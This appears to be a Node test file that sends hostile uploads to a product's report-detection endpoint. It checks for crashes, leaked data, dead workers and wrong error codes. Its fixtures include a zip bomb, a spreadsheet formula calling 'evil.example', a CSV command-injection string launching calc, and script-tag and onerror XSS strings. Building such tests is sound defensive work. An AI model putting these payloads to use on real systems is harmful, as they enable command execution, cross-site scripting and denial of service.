import { closeSync, openSync, readFileSync, truncateSync, writeSync } from 'node:fs';
import { fileWith, type ReportFile, type SheetCell, workbookWith, zipWith } from '#tests/reports/files.ts';
import { memoryMb, workersOf } from '#tests/setup/processes.ts';
import { type Product, samplePassword, startProduct } from '#tests/setup/product.ts';
import { signInForToken } from '#tests/setup/sign-in.ts';

/** Files that are meant to hurt, sent to a running product as staff would: each gets one answer that says what is wrong, and the product goes on. */

/** What may come of a file: codes of the document, or of the answer itself; `read` for one that is a report. */
type Files = ReportFile | ReportFile[];
type Case = { what: string; file: () => Promise<Files> | Files; may: readonly string[] };

export type ReportsDrill = { faults: string[]; files: number; restMb: number; peakMb: number; slowestMs: number };

const head = ['Campaign Name', 'Ad Group Name', 'Customer Search Term', 'Clicks', 'Spend', '7 Day Total Sales '];
const headLine = `${head.join(',')}\n`;
const row = (at: number): SheetCell[] => [`C${at % 50}`, `G${at % 200}`, `term ${at % 9_000}`, 1 + (at % 9), 0.5, 0];

/** A text of so many bytes or rows, written piece by piece. */
function longText(pieces: Iterable<string>): ReportFile {
  const file = fileWith(headLine, 'long.csv');
  const handle = openSync(file.path, 'a');
  for (const piece of pieces) writeSync(handle, piece);
  closeSync(handle);
  return file;
}
function* rowsAsText(count: number): Generator<string> {
  for (let at = 0; at < count; at += 1_000)
    yield Array.from({ length: Math.min(1_000, count - at) }, (_, each) => `${row(at + each).join(',')}\n`).join('');
}
function ofBytes(bytes: number): ReportFile {
  const file = longText(rowsAsText(1_000));
  truncateSync(file.path, bytes);
  return file;
}

const bookOf = (rows: number) =>
  workbookWith({ 'Sponsored Products': [head, ...Array.from({ length: rows }, (_, at) => row(at))] });

const parts = (sheet: string, more: Record<string, string | Uint8Array> = {}) =>
  zipWith(
    {
      'xl/workbook.xml': '<workbook><sheets><sheet name="S" r:id="r1"/></sheets></workbook>',
      'xl/_rels/workbook.xml.rels': '<Relationships><Relationship Id="r1" Target="worksheets/s.xml"/></Relationships>',
      'xl/worksheets/s.xml': `<worksheet><sheetData>${sheet}</sheetData></worksheet>`,
      ...more,
    },
    'book.xlsx',
  );

const sample = () => readFileSync('tests/reports/golden/golden-st-it-utf8bom.csv');

/** Bytes of a report, some of which are others; the same for the same number. */
function changed(whole: Buffer, seed: number): Buffer {
  const bytes = Buffer.from(whole);
  let state = seed;
  for (let change = 0; change < 12; change += 1) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    bytes[state % bytes.length] = state >>> 24;
  }
  return bytes;
}

const fuzzedFile = async (seed: number) =>
  fileWith(changed(seed % 2 ? sample() : readFileSync((await bookOf(60)).path), seed * 7_919));

/** So many go in one form: a person may ask only so often. */
const atOnce = 20;

/** Whatever a broken report may be called. */
const anything = [
  'read',
  'UNKNOWN_REPORT',
  'NO_ROWS',
  'MISALIGNED_ROWS',
  'DAMAGED_NUMBERS',
  'AMBIGUOUS_DATES',
  'ZIP_RATIO',
  'ENCRYPTED',
  'TOO_LARGE',
  'LEGACY_XLS',
  'OTHER_SHEETS',
  'unsupported_type',
];

function casesOf(fuzzed: number): Case[] {
  const cases: Case[] = [
    {
      what: 'a zip that unpacks to 1 GB',
      file: () => zipWith({ 'a.csv': Buffer.alloc(1_000_000_000, 'a') }),
      may: ['ZIP_RATIO'],
    },
    {
      what: 'a zip of 2,001 files',
      file: () => zipWith(Object.fromEntries(Array.from({ length: 2_001 }, (_, at) => [`${at}.csv`, 'x']))),
      may: ['TOO_LARGE'],
    },
    {
      what: 'a zip in a zip in a zip',
      file: async () => zipWith({ 'b.zip': readFileSync((await zipWith({ 'c.zip': 'x' })).path) }),
      may: ['UNKNOWN_REPORT'],
    },
    {
      what: 'a workbook of 130 MB of texts',
      file: () =>
        parts('<row><c t="s"><v>0</v></c></row>', {
          'xl/sharedStrings.xml': `<sst>${Array.from({ length: 65_500 }, (_, at) => `<si><t>${String(at).padEnd(2_000, `text ${at} `)}</t></si>`).join('')}</sst>`,
        }),
      may: ['TOO_LARGE', 'ZIP_RATIO'],
    },
    {
      what: 'a cell of 1 MB',
      file: () => longText([...rowsAsText(1_000), `C,A,${'x'.repeat(1_000_000)},1,0.5,0\n`]),
      may: ['read'],
    },
    {
      what: 'a quotation mark that nobody closes, then 40 MB',
      file: () => longText(['C,A,"open,1,0.5,0\n', ...rowsAsText(1_100_000)]),
      may: ['MISALIGNED_ROWS', 'TOO_LARGE'],
    },
    {
      what: 'a workbook of formulas',
      file: () =>
        workbookWith({
          S: [
            head,
            ...Array.from({ length: 5_000 }, () => [
              'C',
              'G',
              { xml: '<f>WEBSERVICE("http://evil.example")</f><v>1</v>' },
              1,
              0.5,
              0,
            ]),
          ],
        }),
      may: ['read', 'NO_ROWS'],
    },
    {
      what: 'a workbook with macros',
      file: () =>
        parts(`<row>${head.map((text) => `<c t="str"><v>${text}</v></c>`).join('')}</row>`, {
          'xl/vbaProject.bin': Buffer.alloc(5_000, 7),
        }),
      may: ['NO_ROWS', 'unsupported_type'],
    },
    {
      what: 'a workbook with a password',
      file: () =>
        fileWith(
          Buffer.concat([
            Buffer.from('d0cf11e0a1b11ae1', 'hex'),
            Buffer.alloc(4_000_000),
            Buffer.from('EncryptedPackage', 'utf16le'),
          ]),
          'locked.xlsx',
        ),
      may: ['ENCRYPTED'],
    },
    {
      what: 'a script as a name of everything',
      file: () =>
        fileWith(
          `${headLine}<script>alert(1)</script>,"=cmd|'/c calc'!A1",<img src=x onerror=alert(1)>,9,4.5,0\n`,
          '<script>.csv',
        ),
      may: ['read'],
    },
    { what: 'a report by the name of a picture', file: () => fileWith(sample(), 'holiday.png'), may: ['read'] },
    {
      what: 'buyers by the name of a report',
      file: () =>
        fileWith(
          'order-id\tbuyer-name\tbuyer-email\tship-address-1\n1\tElena Secret\telena@secret.example\tVia\n',
          'search-terms.csv',
        ),
      may: ['BUYER_DATA', 'unsupported_type'],
    },
    { what: 'a text of 51 MB', file: () => ofBytes(51_000_000), may: ['payload_too_large', 'TOO_LARGE'] },
    { what: 'a text of 500,001 rows', file: () => longText(rowsAsText(500_001)), may: ['TOO_LARGE'] },
    { what: 'a text of 500,000 rows', file: () => longText(rowsAsText(500_000)), may: ['read'] },
    { what: 'a workbook of 200,000 rows', file: () => bookOf(200_000), may: ['read'] },
    { what: 'nothing', file: () => fileWith('', 'empty.csv'), may: ['NO_ROWS', 'invalid_input', 'unsupported_type'] },
  ];
  for (let tenth = 0; tenth < 10; tenth += 1)
    cases.push(
      {
        what: `a text cut at ${tenth} of 10`,
        file: () => fileWith(sample().subarray(0, (sample().length * tenth) / 10)),
        may: [...anything, 'invalid_input'],
      },
      {
        what: `a workbook cut at ${tenth} of 10`,
        file: async () => {
          const whole = readFileSync((await bookOf(2_000)).path);
          return fileWith(whole.subarray(0, (whole.length * tenth) / 10), 'cut.xlsx');
        },
        may: [...anything, 'invalid_input'],
      },
    );
  for (let first = 1; first <= fuzzed; first += atOnce)
    cases.push({
      what: `changed bytes, from ${first}`,
      file: () =>
        Promise.all(Array.from({ length: Math.min(atOnce, fuzzed - first + 1) }, (_, at) => fuzzedFile(first + at))),
      may: anything,
    });
  return cases;
}

type Answer = { files?: unknown[]; refused?: { code: string }[]; error?: { code: string; message: string } };

/** What came of a file; undefined for an answer without a code. */
function outcomeOf(answer: Answer): string[] {
  if (answer.error) return [answer.error.code];
  return [...(answer.refused ?? []).map(({ code }) => code), ...(answer.files ?? []).map(() => 'read')];
}

async function send(product: Product, token: string, files: ReportFile[]) {
  const form = new FormData();
  for (const file of files) form.append('files[]', new File([readFileSync(file.path)], file.name));
  const response = await fetch(new URL('/api/v1/analyses/detect', product.url), {
    method: 'POST',
    headers: { authorization: `Bearer ${token}` },
    body: form,
  });
  const text = await response.text();
  return { status: response.status, text, answer: JSON.parse(text) as Answer };
}

/** @param fuzzed - how many reports of changed bytes are sent beside the hostile ones */
export async function sendHostileReports(fuzzed: number): Promise<ReportsDrill> {
  const product = await startProduct({ env: { WEB_CONCURRENCY: '1' } });
  const { token } = await signInForToken(product, 'editor@vantaggio.example', samplePassword);
  if (!token) throw new Error('the Editor could not sign in');
  const faults: string[] = [];
  const cases = casesOf(fuzzed);
  const pids = workersOf(product);
  const most = (name: 'VmRSS' | 'VmHWM') => Math.round(Math.max(...pids.map((pid) => memoryMb(pid, name))));
  const restMb = most('VmRSS');
  let [slowestMs, files] = [0, 0];
  for (const { what, file, may } of cases) {
    const given = [await file()].flat();
    files += given.length;
    const begunAt = performance.now();
    try {
      const { status, text, answer } = await send(product, token, given);
      const outcome = outcomeOf(answer);
      slowestMs = Math.max(slowestMs, performance.now() - begunAt);
      if (status >= 500) faults.push(`${what}: ${status}`);
      if (outcome.length < (answer.error ? 1 : given.length) || !outcome.every((code) => may.includes(code)))
        faults.push(`${what}: ${status} ${outcome.join(', ') || text.slice(0, 200)}, not ${may.join(' or ')}`);
      if (/Elena|secret@|node_modules|\n\s+at /.test(text)) faults.push(`${what}: the answer tells what it should not`);
    } catch (error) {
      faults.push(`${what}: no answer (${(error as Error).message}, ${String((error as Error).cause)})`);
    }
    const { status } = await fetch(new URL('/', product.url));
    if (status !== 200) faults.push(`after ${what}: the home page answers ${status}`);
    if (workersOf(product).some((pid) => !pids.includes(pid))) faults.push(`${what}: a worker died`);
  }
  const peakMb = most('VmHWM');
  await product.stop();
  return { faults, files, restMb, peakMb, slowestMs };
}
